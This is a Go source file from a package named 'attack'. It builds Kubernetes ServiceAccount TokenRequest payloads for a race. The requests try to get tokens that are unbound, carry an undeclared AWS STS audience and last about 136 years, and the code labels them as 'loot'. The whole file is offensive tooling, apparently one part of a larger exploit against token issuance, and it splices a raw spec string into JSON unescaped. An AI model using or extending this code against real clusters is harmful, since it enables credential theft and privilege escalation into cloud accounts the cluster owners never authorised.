package attack

const (
	// audienceOfAWS stands for every service outside that trusts this cluster's tokens: no Pod declares it.
	audienceOfAWS = "sts.amazonaws.com"
	// forEver is what the API server takes as a lifetime at most: 136 years.
	forEver = 1 << 32

	contentJSON = "Content-Type: application/json"
)

// Spec of a TokenRequest.
type Spec struct {
	Audiences []string   `json:"audiences"`
	Lifetime  int64      `json:"expirationSeconds"`
	Reference *Reference `json:"boundObjectRef,omitempty"`
}

// Reference is the object that a token is bound to.
type Reference struct {
	APIVersion string `json:"apiVersion,omitempty"`
	Kind       string `json:"kind,omitempty"`
	Name       string `json:"name,omitempty"`
	UID        string `json:"uid,omitempty"`
}

// NewTokenRequest is a request for a token of a ServiceAccount, with a spec that is written as it is: JSON.
func NewTokenRequest(namespace, account, spec string) Request {
	return Request{tokenPath(namespace, account), []string{contentJSON}, tokenRequest(spec)}
}

func tokenPath(namespace, account string) string {
	return "/api/v1/namespaces/" + namespace + "/serviceaccounts/" + account + "/token"
}

// tokenRequest is a TokenRequest with a spec that is written as it is.
func tokenRequest(spec string) []byte {
	return []byte(`{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":` + spec + `}`)
}

func encode(spec Spec) []byte { return tokenRequest(text(spec)) }

// own is the reference to the pod itself.
func (g Grant) own() *Reference {
	return &Reference{APIVersion: "v1", Kind: "Pod", Name: g.Pod, UID: g.PodUID}
}

// RaceRequests are what a race sends: each kind of loot, and what the pod may have, so that it is seen when that ends.
func (g Grant) RaceRequests() []RaceRequest {
	return []RaceRequest{
		{"unbound, for the API server and AWS, for ever", Spec{Audiences: append([]string{audienceOfAWS}, g.Own...), Lifetime: forEver}},
		{"undeclared audience", Spec{Audiences: []string{audienceOfAWS}, Lifetime: g.Lifetimes[0], Reference: g.own()}},
		{"declared audience for ever", Spec{Audiences: g.Audiences[:1], Lifetime: forEver, Reference: g.own()}},
		{"declared", Spec{Audiences: g.Audiences[:1], Lifetime: g.Lifetimes[0], Reference: g.own()}},
	}
}
